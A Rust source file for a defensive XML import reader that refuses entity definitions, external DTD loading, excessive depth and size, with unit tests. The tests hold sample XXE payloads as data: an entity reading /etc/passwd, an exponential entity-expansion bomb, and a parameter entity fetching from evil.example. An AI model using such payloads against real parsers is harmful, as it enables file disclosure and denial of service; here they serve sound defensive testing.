//! Reading XML that a stranger wrote: nothing outside of it is opened, no entity of its own is known, and how deep and
//! how long it may be has an end.

use domain::{
    Refusal,
    learning::{
        import::{
            encoding::decoded,
            tree::{Element, Node},
        },
        refusals::{import_encoding, import_entities, import_unreadable},
    },
};
use quick_xml::{
    Reader, XmlVersion,
    events::{BytesStart, Event},
};

/// Deepest nesting.
const DEPTH_MAX: usize = 64;
/// Most elements, attributes and texts.
const PIECES_MAX: usize = 400_000;

/// The root element.
///
/// # Errors
/// 422 `import_refused`: `encoding`, `entities`, `unreadable`.
pub fn read(bytes: &[u8]) -> Result<Element, Refusal> {
    let text = decoded(bytes).ok_or_else(import_encoding)?;
    let mut reader = Reader::from_str(&text);
    let (mut open, mut pieces) = (vec![Element::default()], 0_usize);
    loop {
        pieces += 1;
        if open.len() > DEPTH_MAX || pieces > PIECES_MAX {
            return Err(import_unreadable());
        }
        match reader.read_event().map_err(|_| import_unreadable())? {
            Event::Start(start) => open.push(element(&start, &mut pieces)?),
            Event::Empty(empty) => {
                let element = element(&empty, &mut pieces)?;
                put(&mut open, Node::Element(element));
            }
            Event::End(_) => {
                let done = open.pop().filter(|_| !open.is_empty()).ok_or_else(import_unreadable)?;
                put(&mut open, Node::Element(done));
            }
            Event::Text(text) => words(&mut open, &text.decode().map_err(|_| import_unreadable())?),
            Event::CData(data) => words(&mut open, &data.decode().map_err(|_| import_unreadable())?),
            Event::GeneralRef(named) => {
                let name = named.decode().map_err(|_| import_unreadable())?;
                match named.resolve_char_ref().map_err(|_| import_unreadable())? {
                    Some(letter) => words(&mut open, letter.encode_utf8(&mut [0; 4])),
                    None => words(&mut open, &known(&name)),
                }
            }
            // What names a file elsewhere is passed over; what defines something is not read.
            Event::DocType(text) => {
                let text = text.decode().map_err(|_| import_unreadable())?;
                if text.contains('[') || text.contains("<!") {
                    return Err(import_entities());
                }
            }
            Event::Eof => break,
            Event::Comment(_) | Event::Decl(_) | Event::PI(_) => {}
        }
    }
    let root = open.pop().filter(|_| open.is_empty()).ok_or_else(import_unreadable)?;
    let first = root.nodes.into_iter().find_map(|node| match node {
        Node::Element(element) => Some(element),
        Node::Text(_) => None,
    });
    first.ok_or_else(import_unreadable)
}

fn put(open: &mut [Element], node: Node) {
    if let Some(parent) = open.last_mut() {
        parent.nodes.push(node);
    }
}

fn words(open: &mut [Element], text: &str) {
    let Some(parent) = open.last_mut() else { return };
    match parent.nodes.last_mut() {
        Some(Node::Text(before)) => before.push_str(text),
        _ => parent.nodes.push(Node::Text(text.to_owned())),
    }
}

/// The five that every document has; another one stays the word it is.
fn known(name: &str) -> String {
    match name {
        "amp" => "&".to_owned(),
        "lt" => "<".to_owned(),
        "gt" => ">".to_owned(),
        "quot" => "\"".to_owned(),
        "apos" => "'".to_owned(),
        other => format!("&{other};"),
    }
}

fn element(start: &BytesStart<'_>, pieces: &mut usize) -> Result<Element, Refusal> {
    let name = String::from_utf8_lossy(start.local_name().as_ref()).into_owned();
    let mut attributes = Vec::new();
    for attribute in start.attributes() {
        *pieces += 1;
        if *pieces > PIECES_MAX {
            return Err(import_unreadable());
        }
        let attribute = attribute.map_err(|_| import_unreadable())?;
        let key = String::from_utf8_lossy(attribute.key.local_name().as_ref()).into_owned();
        let value = attribute.normalized_value(XmlVersion::Implicit1_0).map_err(|_| import_unreadable())?;
        attributes.push((key, value.into_owned()));
    }
    Ok(Element { name, attributes, nodes: Vec::new() })
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::indexing_slicing)]
    use super::*;

    fn reason(xml: &str) -> String {
        let refusal = read(xml.as_bytes()).unwrap_err();
        assert_eq!(refusal.code, "import_refused");
        refusal.facts["reason"].as_str().unwrap().to_owned()
    }

    #[test]
    fn elements_are_known_by_their_local_names_with_attributes_and_words() {
        let xml = "<?xml version=\"1.0\"?><!DOCTYPE m SYSTEM \"http://a.example/m.dtd\"><x:manifest xmlns:x='u'>\
                   <x:item a:href=\"a&amp;b\"/>a&lt;b&#13;<![CDATA[<p>]]>&nbsp;</x:manifest>";
        let root = read(xml.as_bytes()).unwrap();
        assert_eq!(root.name, "manifest");
        assert_eq!(root.child("item").unwrap().attribute("href"), Some("a&b"));
        assert_eq!(root.text(), "a<b\r<p>&nbsp;");
    }

    #[test]
    fn attack_entities_that_open_files_or_grow_without_end_are_refused() {
        let outside = "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>";
        let laughs = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]><x>&b;&b;</x>";
        let parameter = "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]><x/>";
        for xml in [outside, laughs, parameter] {
            assert_eq!(reason(xml), "entities", "{xml}");
        }
    }

    #[test]
    fn attack_what_is_too_deep_too_long_or_half_is_refused() {
        let deep = "<a>".repeat(DEPTH_MAX + 2);
        let long = format!("<a>{}</a>", "<b/>".repeat(PIECES_MAX));
        let wide = format!("<a {}/>", (0..PIECES_MAX).map(|n| format!("a{n}='' ")).collect::<Vec<_>>().concat());
        for xml in [deep.as_str(), &long, &wide, "<a><b></a>", "<a>", "</a>", "", "words"] {
            assert_eq!(reason(xml), "unreadable");
        }
        assert_eq!(reason("<?xml version='1.0' encoding='koi8-r'?><a/>"), "encoding");
        let refusal = read(b"<a>\xff</a>").unwrap_err();
        assert_eq!(refusal.facts["reason"], "encoding");
    }
}
